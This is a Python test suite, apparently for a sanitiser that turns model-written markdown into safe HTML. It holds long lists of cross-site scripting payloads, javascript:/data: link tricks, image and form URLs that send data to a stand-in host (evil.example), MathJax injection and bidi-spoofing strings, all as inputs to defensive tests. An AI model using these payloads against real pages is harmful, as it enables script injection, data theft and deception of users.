"""Everything a model may write, and what of it reaches a page."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamcell.core import links, maths, safe_html
from streamcell.core.safe_html import render

ALLOWED = {
    **dict.fromkeys(
        ("p", "br", "hr", "blockquote", "ul", "li", "pre", "code", "em", "strong", "del", "span", "bdi"), ()
    ),
    **dict.fromkeys(("table", "thead", "tbody", "tr"), ()),
    **dict.fromkeys(("h1", "h2", "h3", "h4", "h5", "h6"), ()),
    "a": ("href", "rel", "referrerpolicy"),
    "img": ("src", "alt"),
    "ol": ("start",),
    "th": ("align", "style"),
    "td": ("align", "style"),
}
VOID = {"br", "hr", "img"}
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
DOUBTFUL_MATHS = re.compile(r"\\(href|require|def|style|class|cssId|unicode)", re.IGNORECASE)


class Audit(HTMLParser):
    """Reads HTML as a browser's parser would and refuses all that is not on the list of this test."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open = []
        self.text = []
        self.elements = set()

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        self.elements.add(tag)
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            self.check_value(name, value)
        if tag == "a":
            assert "a" not in self.open
            assert dict(attrs)["rel"] == "noopener noreferrer"
            assert dict(attrs)["referrerpolicy"] == "no-referrer"
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def check_value(self, name, value):
        match name:
            case "href":
                assert re.match(r"(https?://[a-z0-9\[]|mailto:[!-~]+@)", value, re.IGNORECASE), value
                assert not re.search(r"[\s\\<>\"]", value)
            case "src":
                assert re.fullmatch(r"(?i)data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/]+=*", value), value[
                    :80
                ]
            case "style":
                assert value in {"text-align: left", "text-align: center", "text-align: right"}
            case "align":
                assert value in {"left", "center", "right"}
            case "start":
                assert value.isdigit()

    def handle_data(self, data):
        self.text.append(data)
        assert not HIDDEN.search(data), repr(data)
        if not {"pre", "code"} & set(self.open) and re.search(r"[$\\]", data):
            assert self.open[-1] == "span"
            assert data in {"$", "\\"} or not DOUBTFUL_MATHS.search(data), data

    def handle_comment(self, data):
        raise AssertionError(data)

    def handle_decl(self, decl):
        raise AssertionError(decl)

    def handle_pi(self, data):
        raise AssertionError(data)


def audited(markdown):
    audit = Audit()
    html = render(markdown)
    audit.feed(html)
    audit.close()
    assert audit.open == []
    return html, audit


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1) />",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1)>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>over</div>",
    "<form action=https://evil.example><input name=key><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<button data-commandlinker-command='kernelmenu:run' data-commandlinker-args='{}'>x</button>",
    "<a data-commandlinker-command='console:create' href='#'>x</a>",
    "<div class='jp-RenderedMarkdown lm-Widget mathjax_process'>$x$</div>",
    "<div id=cookie name=body>x</div>",
    "<a name=getElementById href=x>x</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <script>alert(1)</script>\n- x",
    "> <iframe src=x>\n\n<b>",
    "```<script>alert(1)</script>\nx\n```",
    '```html onload=alert(1) "><script>\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "~~</del><script>alert(1)</script>~~",
    "[a]: <script>alert(1)</script>\n\n[a]",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "</div></div></body><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\ud800<script>\udfff</script>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](DATA:IMAGE/SVG+XML,<svg>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](feed:https://a.example)",
    "[x](jar:https://a.example!/x)",
    "[x](view-source:https://a.example)",
    "[x](ftp://a.example)",
    "[x](tel:+1)",
    "[x](//evil.example/x)",
    "[x](/lab/api/kernels)",
    "[x](../files/secret.ipynb)",
    "[x](#frag)",
    "[x](?q=1)",
    "[x]()",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://good.example\\@evil.example)",
    "[x](https://good.example@evil.example)",
    "[x](https://user:pass@evil.example)",
    "[x](https://good.example%2f@evil.example)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    '[x](https://evil.example/ "title\\" onclick=alert(1)")',
    "[x](https://evil.example 'a\"><script>alert(1)</script>')",
    "[x](<https://evil.example/><script>alert(1)</script>>)",
    "[x](https://evil.example/<script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://evil.example/"onclick=alert(1)>',
    "<x@evil.example>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a][]\n\n[a]: vbscript:x 'title'",
    "[r]\n\n[r]: <javascript:alert(1)>",
    "[a](https://x.example/[b](javascript:alert(1)))",
    "[[a](javascript:alert(1))](https://b.example)",
    "[a[b[c[d](javascript:x)](vbscript:y)](data:z)](https://e.example)",
    "[![a](javascript:x)](javascript:y)",
    "[" * 200 + "a" + "](javascript:x)" * 200,
    "[x](https://\u202eelpmaxe.evil.example)",
    "[x](https://evil.example\x00)",
    '[x](mailto:a@b.c?attach=/etc/passwd&body="onclick=")',
    "[x](mailto:javascript:alert(1))",
]
IMAGES = [
    "![a](https://evil.example/?q=secret)",
    "![a](http://evil.example/x.png 'title')",
    "![a](//evil.example/x.png)",
    "![a](/files/x.png)",
    "![a](attachment:x.png)",
    "![a][r]\n\n[r]: https://evil.example/x.png",
    "![r][]\n\n[r]: https://evil.example/x.png",
    "![r]\n\n[r]: https://evil.example/x.png",
    "[![a](https://evil.example/x.png)](https://evil.example/)",
    "![![a](https://evil.example/1)](https://evil.example/2)",
    "![a](<https://evil.example/x y>)",
    "![a](https://evil.example/{{x}})",
    '!["onerror=alert(1) x="](https://evil.example/)',
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](data:image/png,<svg onload=alert(1)>)",
    "![a](data:image/png;charset=x;base64,AAAA)",
    '![a](data:image/png;base64,AAAA"onerror=alert(1))',
    "![a](data:text/html;base64,AAAA)",
    '!["><script>](data:image/png;base64,AAAA)',
    "![a](javascript:alert(1))",
    "| ![a](https://evil.example/t) |\n|---|\n| ![b](https://evil.example/u) |",
    "# ![a](https://evil.example/h)",
    "![a](data:image/png;base64," + "A" * (links.MOST_IMAGE_CHARACTERS + 1) + ")",
]
MATHS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\href{https://evil.example}{x}$$",
    r"\(\href{javascript:alert(1)}{x}\)",
    "\\[\n\\href{javascript:alert(1)}{x}\n\\]",
    "$$\n\\style{position:fixed}{x}\n$$",
    r"$\class{jp-Notebook}{x}$ $\cssId{main}{y}$",
    r"$\require{action}\toggle{a}{b}\endtoggle$",
    r"$\unicode[font-family:x]{65}$",
    r"$\def\alpha{\href{javascript:x}{y}}$",
    r"$\newcommand{\x}{\x\x}\x$",
    r"$\let\beta\href$",
    r"$\mmlToken{mi}[href='javascript:x']{y}$",
    r"$\bbox[background:url(https://evil.example)]{x}$",
    r"$\rule{9999px}{9999px}$",
    r"$\hspace{-5000em}x$",
    r"\$ \href{javascript:x}{y} \$",
    r"&#36;\href{javascript:x}{y}&#36;",
    r"$*a*\href{javascript:x}{y}$",
    "$a\n\n\\href{javascript:x}{y}$",
    "<$>\\href{javascript:x}{y}<$>",
    r"**$**\href{javascript:x}{y}**$**",
    r"\\(\href{javascript:x}{y}\\)",
    r"\\\\[\href{javascript:x}{y}\\\\]",
    r"\begin{equation}\href{javascript:x}{y}\end{equation}",
    r"\\begin{equation}\href{javascript:x}{y}\\end{equation}",
    r"\ref{x} \eqref{y}",
    r"$\HREF{javascript:x}{y}$",
    "$\\hr\u200eef{javascript:x}{y}$",
    "$\\hr\x00ef{javascript:x}{y}$",
    "$a$b$\\href{javascript:x}{y}$",
    "| $a | \\href{javascript:x}{y}$ |\n|---|---|\n| $ | $ |",
    r"[$\href{javascript:x}{y}$](https://a.example)",
    r"![$\href{javascript:x}{y}$](https://a.example)",
]
DECEPTIONS = [
    "safe\u202etxt.exe",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "`a\u202eb`",
    "```\nif a:\u2066 # \u2069\n```",
    "hidden \U000e0041\U000e0042\U000e007f",
    "`\U000e0041`",
    "bell \x07 esc \x1b[31m csi \x9b31m nul \x00",
    "&#27;[31m &#8238;x &#917569;",
    "[\u202egro.elgoog](https://evil.example)",
    "![\u202ex](https://evil.example)",
    "\ud83d alone",
]
HOSTILE = [*SCRIPTS, *LINKS, *IMAGES, *MATHS, *DECEPTIONS]


@pytest.mark.parametrize("payload", HOSTILE, ids=lambda payload: ascii(payload)[:60])
def test_a_hostile_text_leaves_only_listed_elements_and_attributes(payload):
    audited(payload)


@pytest.mark.parametrize("payload", HOSTILE, ids=lambda payload: ascii(payload)[:60])
def test_a_hostile_text_stays_inert_inside_other_markdown(payload):
    audited(f"> 1. *x {payload}\n\n| a |\n|:-:|\n| {payload} |\n\n**{payload}** `{payload[:200]}")


@pytest.mark.parametrize("payload", [payload for payload in SCRIPTS if not payload.startswith("```")])
def test_raw_html_is_shown_as_the_text_it_was(payload):
    _, audit = audited(payload)
    shown = "".join(audit.text)
    for word in ("alert(1)", "evil.example", "commandlinker"):
        assert (word in shown) == (word in payload)


@pytest.mark.parametrize("payload", [link for link in LINKS if "https://" not in link and "@" not in link])
def test_a_link_without_a_permitted_scheme_is_no_link(payload):
    _, audit = audited(payload)
    assert "a" not in audit.elements


@pytest.mark.parametrize("payload", IMAGES)
def test_only_an_image_that_carries_its_bytes_is_an_image(payload):
    _, audit = audited(payload)
    assert ("img" in audit.elements) == (payload == '!["><script>](data:image/png;base64,AAAA)')


BENIGN = [
    ("# One\n\n###### Six", ["<h1>One</h1>", "<h6>Six</h6>"]),
    ("Title\n===", ["<h1>Title</h1>"]),
    ("a *b* _c_", ["<em>b</em>", "<em>c</em>"]),
    ("a **b** __c__", ["<strong>b</strong>", "<strong>c</strong>"]),
    ("~~gone~~", ["<del>gone</del>"]),
    ("one\n\ntwo", ["<p>one</p>", "<p>two</p>"]),
    ("one  \ntwo", ["one<br>\ntwo"]),
    ("- a\n- b", ["<ul>", "<li>a</li>", "<li>b</li>"]),
    ("3. a\n4. b", ['<ol start="3">', "<li>a</li>"]),
    ("- a\n  - b", ["<li>a<ul>", "<li>b</li>"]),
    ("> quoted", ["<blockquote>", "<p>quoted</p>"]),
    ("---", ["<hr>"]),
    ("`x < y`", ["<code>x &lt; y</code>"]),
    ("```python\nprint('$x$')\n```", ["<pre><code>print('$x$')\n</code></pre>"]),
    ("    indented\n", ["<pre><code>indented\n</code></pre>"]),
    ("| a | b |\n|:-:|--:|\n| 1 | 2 |", ['<th align="center"', 'style="text-align: right">2</td>']),
    ("<https://a.example/b>", ['href="https://a.example/b"', "<bdi>https://a.example/b</bdi></a></p>"]),
    (
        "[docs](https://a.example/b?c=1&d=2#e)",
        ['href="https://a.example/b?c=1&amp;d=2#e"', "</a> (a.example)"],
    ),
    ("[a.example](https://a.example)", ["<bdi>a.example</bdi></a></p>"]),
    ("[mail](mailto:me@a.example)", ['href="mailto:me@a.example"', "(me@a.example)"]),
    (
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'],
    ),
    ("![cat](https://a.example/cat.png)", ["[image: cat (a.example)]", 'href="https://a.example/cat.png"']),
    ("$E = mc^2$ and $x_1 * y_1$", ["<span>$E = mc^2$</span>", "<span>$x_1 * y_1$</span>"]),
    (r"\(a_1\) and \[b < c\]", [r"<span>\(a_1\)</span>", r"<span>\[b &lt; c\]</span>"]),
    ("$$\na\n= b\n- c\n$$", ["<span>$$\na\n= b\n- c\n$$</span>"]),
    ("$5 and $10", ["<span>$</span>5 and <span>$</span>10"]),
    ("Grüße, 世界 👩‍💻 שלום", ["Grüße, 世界 👩‍💻 שלום"]),
    ("a < b && c > d \"e\" 'f'", ["a &lt; b &amp;&amp; c &gt; d \"e\" 'f'"]),
    ("C:\\temp \\* not a list", ["C:<span>\\</span>temp * not a list"]),
    ("- [ ] open\n- [x] done", ["[ ] open", "[x] done"]),
]


@pytest.mark.parametrize(("markdown", "expected"), BENIGN, ids=lambda value: ascii(value)[:40])
def test_ordinary_formatting_is_kept(markdown, expected):
    html, _ = audited(markdown)
    for piece in expected:
        assert piece in html


@pytest.mark.parametrize(
    "label", ["click", "https://good.example", "a.example.evil", "see a.example", "a.example@x"]
)
def test_a_link_whose_text_names_another_place_shows_its_host(label):
    html, _ = audited(f"[{label}](https://a.example/path)")
    assert "</a> (a.example)" in html


def test_maths_that_does_more_than_typeset_is_shown_as_code():
    html, _ = audited(r"before $\href{javascript:alert(1)}{x}$ after")
    assert r"<code>$\href{javascript:alert(1)}{x}$</code>" in html


@pytest.mark.parametrize(
    "formula", [r"$\frac{a}{b}$", r"$\mathrm{d}x$", r"$\text{if } x$", r"$\left(x\right)$", "$a$"]
)
def test_ordinary_maths_may_be_typeset(formula):
    assert maths.typesettable(formula)


def test_bidi_controls_are_written_out_in_code_and_gone_from_text():
    html, _ = audited("a\u202eb `c\u202ed`")
    assert "ab <code>c[U+202E]d</code>" in html


@pytest.mark.parametrize(
    "piece", [">", "> ", "- ", "1. ", "[", "![", "*", "_a", "(", "<", "&", "`a ", "$a", "\\(", "\\[\n"]
)
def test_thousands_of_openers_neither_raise_nor_lose_the_text(piece):
    html, audit = audited(piece * 5_000 + "the end")
    assert "the end" in "".join(audit.text)
    assert html


def test_text_nested_too_deep_comes_as_it_was_written():
    source = ">" * 3_000 + " deep"
    assert render(source) == safe_html.preformatted(source)


def test_the_second_wall_alone_holds_what_the_first_might_let_through():
    html = '<p onclick="x" style="color:red" id="i" class="c" data-x="1">a<script>b</script><img src="https://e.example/">'
    assert safe_html.seal(html) == "<p>a<img></p>"


def test_the_second_wall_changes_nothing_that_the_first_wrote():
    html = render("# a\n\n- b `c`\n\n| d |\n|--:|\n| [e](https://f.example) $g$ |\n\n3. h")
    assert safe_html.seal(html) == html


PIECES = st.sampled_from(
    (
        *"*_`~[]()!<>&#$\\|-+ \n\t\"':;=/{}x",
        *("\n\n", "```", "$$", "\\(", "\\)", "](", "![", "> ", "1. ", "| a |\n|---|\n"),
        *("javascript:", "https://", "a.example", "data:image/png;base64,AA", "\\href{"),
        *("<script>", "onerror=", "&#36;", "\u202e", "\x1b"),
    )
)


@given(st.lists(PIECES, max_size=60).map("".join))
def test_no_text_that_looks_like_markdown_gets_past_the_list(markdown):
    audited(markdown)


@given(st.text(max_size=80))
def test_no_text_gets_past_the_list(markdown):
    audited(markdown)


@given(st.text(alphabet=st.characters(categories=["L", "N"]), min_size=1))
def test_plain_words_come_through_unchanged(words):
    _, audit = audited(words)
    assert "".join(audit.text).strip() == words.strip()
